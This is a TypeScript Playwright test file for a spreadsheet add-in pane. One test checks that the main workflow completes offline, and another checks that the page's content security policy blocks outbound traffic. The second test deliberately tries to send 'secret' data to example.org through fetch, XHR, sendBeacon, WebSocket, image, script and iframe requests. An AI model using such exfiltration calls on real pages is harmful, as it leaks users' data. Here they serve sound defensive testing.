// The network cut: every address but the add-in's own is refused from the start, and the server goes away once the pane stands. The main
// job goes on to its end; what needs a part that was never fetched says so in a sentence. And the policy that forbids connections.
import type { Frame, Page, Request } from "playwright-core";
import { message } from "../../src/domain/message";
import { translatorFor } from "../../src/i18n/catalogues";
import type { Workbench } from "./workbenchProcess";
import { openPage, openWorkbench } from "./workbenchProcess";

jest.setTimeout(300_000);

let workbench: Workbench;
beforeEach(async () => {
  workbench = await openWorkbench();
});
afterEach(async () => workbench.close());

const translate = translatorFor("en");
const text = (key: string, params?: Record<string, string | number>): string =>
  translate(message(key, params));
const press = (pane: Frame, key: string): Promise<void> =>
  pane
    .getByRole("button", { name: text(key) })
    .first()
    .click();
const free = (pane: Frame): Promise<void> =>
  pane.getByRole("button", { name: "Cancel", exact: true }).waitFor({ state: "detached" });
const tab = (pane: Frame, name: string): Promise<void> =>
  pane.getByRole("tab", { name: text(`pane.tab.${name}`), exact: true }).click();
const status = (pane: Frame): Promise<string> => pane.getByRole("status").last().innerText();
const sheetNames = (page: Page): Promise<string[]> => page.evaluate(() => window.workbench.sheetNames());

async function agree(pane: Frame): Promise<void> {
  const dialog = pane.getByRole("dialog");
  await dialog.getByRole("button", { name: text("pane.action.confirm") }).click();
  await dialog.waitFor({ state: "detached" });
  await free(pane);
}

test("with the network cut and the server gone the main job goes on to its end", async () => {
  const { page, pane, strayRequests } = await openPage(workbench, "?sample=none&pane=350");
  await page.route("**/*", (route) =>
    route.request().url().startsWith(workbench.url) ? route.continue() : route.abort(),
  );
  // The pane fetches its parts in quiet moments after it stands; the last one is there when this is so.
  await pane.waitForFunction(() =>
    performance
      .getEntriesByType("resource")
      .some((entry) => /old-plans/.test(entry.name) && (entry as PerformanceResourceTiming).responseEnd > 0),
  );
  await page.waitForTimeout(500);
  await workbench.stopServer();

  await press(pane, "pane.action.insertSample");
  await agree(pane);
  expect(await status(pane)).toContain(text("pane.done.sample"));
  await tab(pane, "check");
  await press(pane, "pane.action.check");
  await pane.getByText(/findings in view/).waitFor();
  await press(pane, "pane.action.repairSafe");
  await agree(pane);
  await tab(pane, "duplicates");
  await press(pane, "pane.action.findDuplicates");
  await pane.getByRole("tree").waitFor();
  await free(pane);
  await press(pane, "pane.action.writeOverlaps");
  await agree(pane);
  await tab(pane, "gap");
  await press(pane, "pane.action.computeGap");
  await pane.getByRole("tree").waitFor();
  await free(pane);
  await press(pane, "pane.action.writeGap");
  await agree(pane);
  const names = await sheetNames(page);
  for (const wanted of [/^Needs/, /^Responses/, /^Change log/, /overlap/i, /gap/i])
    expect([wanted, names.some((name) => wanted.test(name))]).toEqual([wanted, true]);

  await tab(pane, "home");
  await press(pane, "pane.home.oldPlan");
  await pane.getByLabel(text("pane.oldPlan.paste")).fill(
    [
      ["Need", "Action", "Expected outputs", "Drivers", "Status / Timeline", "Funding"],
      ["1 Cybercrime", "1.1 Units", "- Mentors", "Council of Europe", "ongoing 2018-2019", "available"],
    ]
      .map((row) => row.join("\t"))
      .join("\n"),
  );
  await press(pane, "pane.oldPlan.read");
  await pane.getByRole("treeitem").first().waitFor();

  // Parts that were never needed before are not there: a sentence, and nothing written.
  const before = await sheetNames(page);
  await tab(pane, "home");
  await press(pane, "pane.home.returns");
  await pane
    .locator('input[type="file"]')
    .last()
    .setInputFiles({ name: "back.xlsx", mimeType: "application/zip", buffer: Buffer.from("none") });
  await pane.getByText(text("workbook.error.part")).first().waitFor();
  await pane.getByRole("button", { name: text("pane.back"), exact: true }).click();
  await press(pane, "pane.home.template");
  await press(pane, "pane.home.pack");
  await press(pane, "pane.action.makePack");
  await pane.waitForFunction(
    (sentence) => document.querySelector("[role=status]")?.textContent?.includes(sentence) === true,
    text("workbook.error.part"),
  );
  expect(await sheetNames(page)).toEqual(before);
  expect(strayRequests).toEqual([]);
  await page.close();
});

test("the page's policy refuses every way out: connections, pictures, scripts and frames", async () => {
  const { page, pane } = await openPage(workbench, "?sample=none");
  // The browser names what it refused before it went out: each must have ended so.
  const gone: string[] = [];
  const own = new URL(page.url()).origin;
  // The pane goes on fetching the later parts of its own bundle meanwhile, as scripts; nothing else is let out.
  const isOwnScript = (request: Request): boolean =>
    new URL(request.url()).origin === own && request.resourceType() === "script";
  page.on("requestfinished", (request) => {
    if (!isOwnScript(request)) gone.push(request.url());
  });
  page.on("requestfailed", (request) => {
    if (!/csp|blocked/i.test(request.failure()?.errorText ?? "") && !isOwnScript(request))
      gone.push(request.url());
  });
  const refused = await pane.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      directives.push(event.effectiveDirective),
    );
    const swallow = (): void => undefined;
    const out = "https://example.org/collect?text=secret";
    await fetch(out).catch(swallow);
    await fetch("build-info.json").catch(swallow);
    const old = new XMLHttpRequest();
    old.open("POST", out);
    old.onerror = swallow;
    try {
      old.send("secret");
    } catch {
      // Refused at once.
    }
    navigator.sendBeacon(out, "secret");
    try {
      new WebSocket("wss://example.org");
    } catch {
      // Refused at once.
    }
    new Image().src = out;
    for (const [name, attribute] of [
      ["script", "src"],
      ["iframe", "src"],
    ] as const) {
      const element = document.createElement(name);
      element.setAttribute(attribute, out);
      document.body.append(element);
    }
    const inline = document.createElement("script");
    inline.textContent = "window.ran = true";
    document.body.append(inline);
    await new Promise((done) => setTimeout(done, 500));
    return { directives, ran: "ran" in window };
  });
  expect(refused.ran).toBe(false);
  expect(refused.directives.filter((name) => name === "connect-src").length).toBeGreaterThanOrEqual(4);
  expect(refused.directives).toEqual(expect.arrayContaining(["img-src", "script-src-elem", "frame-src"]));
  expect(gone).toEqual([]);
  await page.close();
});
